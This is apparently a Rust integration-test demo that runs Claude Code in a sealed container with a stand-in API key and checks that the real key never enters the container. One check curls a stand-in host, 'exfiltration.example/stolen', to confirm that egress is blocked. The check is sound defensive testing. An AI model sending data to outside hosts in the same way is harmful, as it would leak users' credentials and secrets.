//! `make demo`: a real Claude Code in a sealed container, a sidecar with the real key, a mock of the provider, and a
//! table of who saw what. PASS only if every line compares as it must.

use std::process::ExitCode;

use anyhow::{Context, Result};
use understudy_integration_tests::podman::{Container, until};
use understudy_integration_tests::stand::{ANTHROPIC, Agent, Stand};

const DENIED: &str = "exfiltration.example";

fn main() -> ExitCode {
    match run() {
        Ok(true) => {
            println!("\nPASS");
            ExitCode::SUCCESS
        }
        Ok(false) => {
            println!("\nFAIL");
            ExitCode::FAILURE
        }
        Err(error) => {
            println!("\nFAIL: {error:#}");
            ExitCode::FAILURE
        }
    }
}

fn run() -> Result<bool> {
    let stand = Stand::start(&[ANTHROPIC], |step| println!("· {step}"))?;
    println!(
        "· starting Claude Code: podman run --network=none --annotation understudy.harness=claude-code …"
    );
    let agent = agent(&stand)?;
    let answer = answer(&agent)?;
    println!("· searching the container for the real key: processes, memory, files, logs");
    let evidence = Evidence::gather(&stand, &agent, answer)?;
    Ok(evidence.report(&stand))
}

/// Says hi, keeps what it saw, and stays so that it can be searched.
fn agent(stand: &Stand) -> Result<Container> {
    let claude = format!("--volume={}:/usr/local/bin/claude:ro", stand.paths.cache.join("claude").display());
    Agent::new("claude-code").option(&claude).option("--user=agent").option("--workdir=/home/agent").start(&[
        "sh",
        "-c",
        "printenv ANTHROPIC_API_KEY >/tmp/seen; claude -p 'say hi' </dev/null; touch /tmp/done; exec sleep infinity",
    ])
}

fn answer(agent: &Container) -> Result<String> {
    until("Claude Code", || Ok(agent.exec(&["test", "-e", "/tmp/done"])?.code == Some(0)))
        .with_context(|| agent.logs().unwrap_or_default())?;
    Ok(agent.logs()?.trim().to_owned())
}

struct Evidence {
    answer: String,
    /// What the agent's environment holds.
    seen: String,
    /// What the provider was sent, if anything.
    received: Option<String>,
    /// Where the real key was found in the container.
    found: Vec<String>,
    /// Where the search finds the stand-in: nowhere would mean that it does not look.
    control: usize,
    refusal: String,
    leaked: bool,
    asked: Vec<String>,
}

impl Evidence {
    fn gather(stand: &Stand, agent: &Container, answer: String) -> Result<Self> {
        let seen = agent.exec(&["cat", "/tmp/seen"])?.success()?.trim().to_owned();
        let url = format!("https://{DENIED}/stolen");
        let refusal = agent.exec(&["curl", "-sS", "-w", "\nHTTP %{http_code}", &url])?.text();
        let received = stand
            .requests("/v1/messages")?
            .first()
            .and_then(|request| request.header("x-api-key").map(str::to_owned));
        Ok(Self {
            answer,
            found: stand.hunt(agent, &[&stand.secrets.anthropic])?,
            control: stand.hunt(agent, &[&seen])?.len(),
            seen,
            received,
            refusal: refusal.trim().to_owned(),
            leaked: !stand.requests("/stolen")?.is_empty(),
            asked: stand.queries()?,
        })
    }

    fn report(&self, stand: &Stand) -> bool {
        let secret = stand.secrets.anthropic.as_str();
        let received = self.received.as_deref().unwrap_or("nothing");
        let found = if self.found.is_empty() { "nowhere".to_owned() } else { self.found.join(", ") };
        let asked = if self.asked.is_empty() { "none".to_owned() } else { self.asked.join(", ") };
        let lines = [
            ("the agent's answer", self.answer.clone(), self.answer.contains("MOCK-OK")),
            (
                "the agent's ANTHROPIC_API_KEY",
                short(&self.seen),
                !self.seen.is_empty() && self.seen != secret,
            ),
            ("the provider received x-api-key", short(received), received == secret),
            ("the real key in the container", found, self.found.is_empty()),
            ("the same search for the stand-in", format!("{} places", self.control), self.control > 0),
            (
                "a host that no rule allows",
                self.refusal.replace('\n', " | "),
                self.refusal.contains("HTTP 403"),
            ),
            ("requests that reached it", if self.leaked { "some" } else { "none" }.to_owned(), !self.leaked),
            ("names that left the container", asked, self.asked.is_empty()),
        ];
        println!();
        for (what, value, good) in &lines {
            println!("{} {what:<34} {value}", if *good { "ok  " } else { "FAIL" });
        }
        lines.iter().all(|(_, _, good)| *good)
    }
}

/// Enough of a credential to tell two apart.
fn short(value: &str) -> String {
    match (value.get(..18), value.get(value.len().saturating_sub(6)..)) {
        (Some(start), Some(end)) => format!("{start}…{end}"),
        _ => value.to_owned(),
    }
}
